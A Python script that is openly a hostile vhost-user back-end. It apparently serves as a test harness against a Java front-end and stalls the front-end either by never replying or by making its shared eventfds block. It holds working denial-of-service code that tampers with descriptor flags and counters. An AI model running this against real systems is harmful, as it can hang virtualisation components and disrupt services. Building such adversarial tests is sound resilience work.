#!/usr/bin/env python3
"""A hostile vhost-user back-end (Python 3, stdlib only) attacking Ringlink's Java front-end role.

usage: vu_backend_attack.py SOCKET MODE
  mute    listen, accept, read requests and never reply (GET_FEATURES waits for ever)
  clear   answer the handshake (VERSION_1 only), then clear O_NONBLOCK on every kick and call
          eventfd the front-end sent (they share the open file with the front-end's own
          descriptors) and fill each kick counter to 0xfffffffffffffffe: a plain write(2) of a
          kick or read(2) of an empty call would now block the front-end's thread
Prints "ready" when the attack is in place, then waits until stdin closes.
"""
import array
import fcntl
import os
import socket
import struct
import sys

GET_FEATURES, SET_VRING_KICK, SET_VRING_CALL = 1, 12, 13
FULL = 0xfffffffffffffffe


def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def recv_msg(s):
    fds = array.array("i")
    data, anc, _, _ = s.recvmsg(12, socket.CMSG_SPACE(8 * fds.itemsize))
    for level, typ, cdata in anc:
        if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
            fds.frombytes(cdata[: len(cdata) - (len(cdata) % fds.itemsize)])
    if not data:
        raise EOFError
    data += recv_exact(s, 12 - len(data))
    req, flags, size = struct.unpack("<III", data)
    payload = recv_exact(s, size) if size else b""
    return req, flags, payload, list(fds)


def main():
    path, mode = sys.argv[1], sys.argv[2]
    lst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    lst.bind(path)
    lst.listen(1)
    print("listening", flush=True)
    s, _ = lst.accept()
    kicks, calls = {}, {}
    try:
        while True:
            req, flags, payload, fds = recv_msg(s)
            if mode == "mute":
                continue
            if req == GET_FEATURES:
                body = struct.pack("<Q", 1 << 32)
                s.sendall(struct.pack("<III", req, 0x5, len(body)) + body)  # version 1 | REPLY
            elif req == SET_VRING_KICK and fds:
                kicks[struct.unpack("<Q", payload)[0] & 0xff] = fds[0]
            elif req == SET_VRING_CALL and fds:
                calls[struct.unpack("<Q", payload)[0] & 0xff] = fds[0]
            else:
                for fd in fds:
                    os.close(fd)
            if len(kicks) == 2 and len(calls) == 2:
                break
    except EOFError:
        print("eof", flush=True)
        sys.stdin.read()
        return
    # Fill the kicks while they are still non-blocking: the front-end may have kicked already
    # (counter 1), and a blocking write of FULL on top of that would hang this script. Take
    # what is there, then write FULL; EAGAIN means a kick came in between: take it and retry.
    for fd in kicks.values():
        while True:
            try:
                os.read(fd, 8)
            except BlockingIOError:
                pass
            try:
                os.write(fd, struct.pack("<Q", FULL))
                break
            except BlockingIOError:
                pass
    for fd in list(kicks.values()) + list(calls.values()):
        fl = fcntl.fcntl(fd, fcntl.F_GETFL)
        fcntl.fcntl(fd, fcntl.F_SETFL, fl & ~os.O_NONBLOCK)
    print("ready", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
